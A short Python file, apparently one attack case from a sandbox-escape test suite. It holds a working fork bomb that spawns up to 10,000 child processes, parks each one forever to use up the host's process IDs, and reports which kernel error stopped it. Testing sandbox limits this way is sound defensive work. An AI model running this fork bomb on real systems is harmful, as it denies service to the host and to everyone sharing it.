# Attack: a fork bomb — make processes until the kernel says no, each child parked forever, to
# starve the host and the other calls of pids.
from escape import os, real_import


def attack():
    errno = real_import("errno")
    made = 0
    while made < 10_000:
        try:
            pid = os.fork()
        except OSError as e:
            return {"made": made, "stopped_by": errno.errorcode.get(e.errno, str(e.errno))}
        if pid == 0:
            try:
                while True:
                    real_import("signal").pause()
            finally:
                os._exit(0)
        made += 1
    return {"made": made, "stopped_by": None}
